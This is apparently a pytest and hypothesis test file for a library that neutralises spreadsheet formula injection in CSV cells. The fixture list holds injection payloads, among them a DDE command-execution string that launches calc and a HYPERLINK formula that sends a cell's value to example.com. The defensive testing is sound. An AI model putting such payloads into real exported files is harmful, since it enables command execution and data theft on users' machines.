import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from burnish.feedback.files.cells import guarded, plain

FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "﹦1",
    " =1",
    "\u3000=1",
    "\ufeff=1",
    "\u200b=1",
    '=HYPERLINK("http://example.com?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\x00=1",
]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "\x00", "＝", "＋", "－", "＠")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_a_spreadsheet_would_run_gets_an_apostrophe(text):
    assert guarded(text).startswith("'")
    assert plain(guarded(text)) == text


@pytest.mark.parametrize("text", ["a;=1", 'x;"=1', "a\t=1", "line\n=1", "line\r\n  @x", "a; ＝1", "a|-1"])
def test_a_text_that_falls_apart_into_a_formula_at_semicolons_and_line_ends_is_kept_in_one_piece(text):
    cell = guarded(text)
    assert not any(mark in cell for mark in ";|\t\r\n")
    assert plain(cell) == text


@pytest.mark.parametrize(
    "text", ["", "hello", "你好", "1.5", "a=1", "it's", "'quoted'", "a; b", "two\nlines", "json:1", "'"]
)
def test_ordinary_text_stays_as_it_is(text):
    assert guarded(text) == text
    assert plain(text) == text


@pytest.mark.parametrize("text", ["'=1", "''=1", "'json:1", "''json:\"x\"", "'+", "'json:"])
def test_text_that_looks_as_if_it_had_been_guarded_comes_back_too(text):
    assert plain(guarded(text)) == text


def test_a_cell_of_another_tool_that_only_looks_like_ours_is_left_alone():
    assert plain("'json:[1]") == "'json:[1]"
    assert plain("'json:{") == "'json:{"


@given(
    st.text(alphabet=st.characters(), max_size=30)
    | st.text(alphabet="'=+-@\t\r\n;\"\x00 ＝＠json:\ud800,|", max_size=12)
)
def test_every_text_comes_back_and_no_cell_starts_like_a_formula(text):
    cell = guarded(text)
    assert plain(cell) == text
    assert not cell.startswith(STARTS)
    cell.encode("utf-8")
    assert "\x00" not in cell


@given(st.lists(st.text(alphabet="a'=;|\"\n\r\t@,", max_size=8), min_size=1, max_size=4))
def test_even_a_program_that_cuts_at_semicolons_or_tabs_sees_no_formula(texts):
    stream = io.StringIO(newline="")
    csv.writer(stream, quoting=csv.QUOTE_ALL).writerow([guarded(text) for text in texts])
    for delimiter in ",;\t|":
        for row in csv.reader(io.StringIO(stream.getvalue(), newline=""), delimiter=delimiter):
            assert not [cell for cell in row if cell.lstrip(" \r\n\t").startswith(("=", "@"))]
